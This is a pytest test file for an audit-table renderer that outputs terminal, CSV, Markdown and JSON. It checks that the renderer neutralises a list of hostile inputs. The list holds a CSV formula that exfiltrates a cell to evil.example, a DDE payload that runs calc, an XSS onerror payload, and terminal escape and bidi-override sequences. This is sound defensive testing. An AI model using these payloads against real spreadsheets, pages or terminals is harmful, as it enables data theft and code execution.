"""The table of an audit: nothing touches, nothing acts, nothing is lost."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from markdown_it import MarkdownIt

from specverify.audit.table import FORMATS, LINE

LLAMA: dict[str, Any] = {
    "ref": "acme/llama",
    "name": "acme/llama",
    "sha": "a" * 40,
    "status": "ok",
    "exactness": "exact",
    "model_type": "llama",
    "prototype": "decoder-only",
    "attention": "gqa",
    "parameters.total": 8_030_261_248,
    "parameters.activated": 8_030_261_248,
    "context.declared": 131072,
    "cache.bytes_per_token": 131072,
    "cache.sequence_bytes": 17_179_869_184,
    "weights.bytes": 16_060_530_944,
    "findings": [],
}
LARGEST = {
    **LLAMA,
    "status": "RevisionNotFound",
    "parameters.total": 999_949_999_999_999,
    "parameters.activated": 999_949_999_999_999,
    "context.declared": 1_048_576_000_000,
    "cache.sequence_bytes": 1_023_999 * 2**30,
    "weights.bytes": 1_023_999 * 2**30,
    "capacity.fits": False,
    "findings": [{"code": "ATT001", "severity": "error", "message": "m", "place": None}],
}
GATED = {"ref": "acme/gated", "name": "acme/gated", "sha": None, "status": "Gated", "error": "acme/gated: no access without a token"}
UNKNOWN = {**LLAMA, "ref": "acme/new", "parameters.total": None, "context.declared": None, "attention": None, "model_type": None}

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "x\r\n=1+1",
    "x\u2028=1+1",
    "a|b",
    "a\\|b",
    "[click](http://evil.example)",
    "![x](http://evil.example/x.png)",
    "<img src=x onerror=alert(1)>",
    "<script>",
    "`code` **bold** ~~gone~~ &lt;b&gt; $x$",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x9b31m",
    "a\u202eb",
    "\x00\x08\x7f",
)


def made(form: str, *rows: dict[str, Any]) -> str:
    return "".join(FORMATS[form](iter(rows)))


def hostile(text: str) -> list[dict[str, Any]]:
    finding = {"code": text, "severity": "error", "message": text, "place": text}
    return [
        {**LLAMA, "ref": text, "name": text, "model_type": text, "attention": text, "findings": [finding]},
        {**GATED, "ref": text, "error": text, "status": text},
    ]


def test_terminal_columns_line_up() -> None:
    head, first, second, third, *_ = made("terminal", LLAMA, UNKNOWN, GATED).splitlines()
    start = head.index("model")
    for line, name in ((first, "acme/llama"), (second, "acme/new"), (third, "acme/gated")):
        assert line[start:].startswith(name)
    ends = [sum(width for _, width in LINE[: column + 1]) + 2 * column for column in range(len(LINE))]
    for line in (head, first, second, third):
        assert all(line[end : end + 2] == "  " and line[end - 1] != " " for end in ends[2:])
    assert first.split() == ["ok", "gqa", "8.03B", "8.03B", "131,072", "16", "GiB", "14.96", "GiB", "acme/llama"]
    assert second.split()[:5] == ["ok", "-", "unknown", "8.03B", "unknown"]
    assert third.endswith("acme/gated  acme/gated: no access without a token")


def test_terminal_columns_never_touch() -> None:
    line = made("terminal", LARGEST).splitlines()[1]
    assert line.split("  ")[0] == "RevisionNotFound"
    cells = [cell.strip() for cell in line.split("  ") if cell.strip()]
    figures = ["999.9T", "999.9T", "1,048,576,000,000", "1,000.00 TiB", "1,000.00 TiB"]
    assert cells == ["RevisionNotFound", "gqa", *figures, "acme/llama", "ATT001"]


def test_terminal_counts_by_status() -> None:
    assert made("terminal", LLAMA, GATED, LLAMA).endswith("\n\n1 Gated, 2 ok; 3 models\n")
    assert made("terminal").endswith("; 0 models\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_spreadsheet_finds_no_formula(text: str) -> None:
    header, *lines = csv.reader(io.StringIO(made("csv", *hostile(text))))
    assert len(lines) == 2
    for line in lines:
        assert len(line) == len(header)
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")) for cell in line)
        assert all(cell.isprintable() for cell in line)


def test_csv_is_exact() -> None:
    header, first, second = csv.reader(io.StringIO(made("csv", LARGEST, GATED)))
    told = dict(zip(header, first, strict=True))
    assert told["parameters.total"] == "999949999999999"
    assert told["cache.bytes_per_token"] == "131072"
    assert told["capacity.fits"] == "False"
    assert told["findings"] == "ATT001"
    assert dict(zip(header, second, strict=True))["error"] == GATED["error"]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_stays_a_table_of_text(text: str) -> None:
    source = made("markdown", *hostile(text))
    assert source.isascii() or "\u202e" not in source
    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(source)
    assert [token.type for token in tokens].count("tr_open") == 3
    assert [token.type for token in tokens].count("td_open") == 2 * [token.type for token in tokens].count("th_open")
    inline = [child.type for token in tokens for child in token.children or ()]
    assert set(inline) <= {"text", "text_special"}


@pytest.mark.parametrize("form", ["terminal", "markdown", "csv", "json"])
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_steers_a_terminal(form: str, text: str) -> None:
    made_of = made(form, *hostile(text))
    assert all(character.isprintable() or character == "\n" for character in made_of)
    assert "\u202e" not in made_of
    if form == "terminal":
        assert len(made_of.splitlines()) == 1 + 2 + 2


@pytest.mark.parametrize("text", HOSTILE)
def test_json_is_the_rows(text: str) -> None:
    rows = [LLAMA, *hostile(text), UNKNOWN]
    assert json.loads(made("json", *rows)) == rows
    assert json.loads(made("json")) == []


@pytest.mark.parametrize("form", FORMATS)
def test_table_comes_line_by_line(form: str) -> None:
    assert all(piece.endswith("\n") for piece in FORMATS[form](iter([LLAMA, GATED])))


def test_a_long_audit_shows_the_worst_first_and_says_how_many_more() -> None:
    rows = [{**LLAMA, "ref": f"org/ok-{n}"} for n in range(40)] + [
        {**LLAMA, "ref": "org/bad", "status": "error"},
        {**GATED, "ref": "org/shut"},
    ]
    shown = made("terminal", *rows).splitlines()
    assert "org/shut" in shown[1]
    assert "org/bad" in shown[2]
    assert "org/ok-27" in shown[30]
    assert shown[31].startswith("and 12 more")
    assert shown[-1] == "1 Gated, 1 error, 40 ok; 42 models"
    assert all(f"org/ok-{n}" in made("csv", *rows) for n in range(40))
